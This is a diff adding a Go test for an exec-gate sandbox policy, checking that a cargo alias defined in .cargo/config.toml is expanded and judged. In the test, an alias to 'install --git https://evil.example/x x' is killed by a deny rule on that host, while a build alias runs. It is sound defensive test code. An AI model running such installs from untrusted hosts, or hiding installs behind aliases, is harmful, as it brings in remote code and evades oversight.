@@ -1607,3 +1607,45 @@ target     = { resource = "python3" }
 func gitFormArgv(r grants.Request, ev sandbox.ExecEvent) bool {
 	return r.Target.Resource == "git" && len(r.Argv) > 0 && len(ev.Argv) > 0 && slices.Equal(r.Argv[1:], ev.Argv[1:])
 }
+
+// TestExecGateCargoAlias: cargo expands an [alias] in its own process, so
+// the gate sees only `cargo i`: at its exec the alias the project's
+// .cargo/config.toml defines then (a command of the line wrote it) is
+// read, and its expansion decided as the install it is (issue 16): a deny
+// rule on the host it installs from kills it; an alias to a build runs.
+// The cargo here is a stand-in on PATH: nothing reaches a network.
+func TestExecGateCargoAlias(t *testing.T) {
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	marker := filepath.Join(ws, "ran")
+	files := map[string]string{
+		"bin/cargo": "#!/bin/sh\necho \"$@\" > " + marker + "\n",
+		"alias.sh":  "#!/bin/sh\nmkdir -p .cargo\nprintf '[alias]\\ni = \"%s\"\\n' \"$1\" > .cargo/config.toml\ncargo i\necho rc=$?\n",
+	}
+	for name, body := range files {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	const denyEvil = "\n[[rules.deny]]\nrule_id = \"no-evil\"\ncapability = \"package.install\"\ntarget = { host = \"evil.example\" }\n"
+	p := policyFor(t, ws, `profile = "interactive-dev"`+denyEvil)
+	for _, tc := range []struct {
+		alias   string
+		wantRun bool
+	}{
+		{"install --git https://evil.example/x x", false},
+		{"build --release", true},
+	} {
+		os.Remove(marker)
+		o := runTool(t, &Tool{}, approvingEnv(p, nil), "PATH="+ws+"/bin:$PATH ./alias.sh '"+tc.alias+"'")
+		_, err := os.Stat(marker)
+		if ran := err == nil; ran != tc.wantRun {
+			t.Errorf("%q: cargo ran = %v, want %v (stdout %q stderr %q refused %q)", tc.alias, ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
+		}
+		if !tc.wantRun && (o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-evil")) {
+			t.Errorf("%q: stdout %q, refused %q: want cargo killed by no-evil", tc.alias, o.Stdout, o.RefusedPrograms)
+		}
+	}
+}
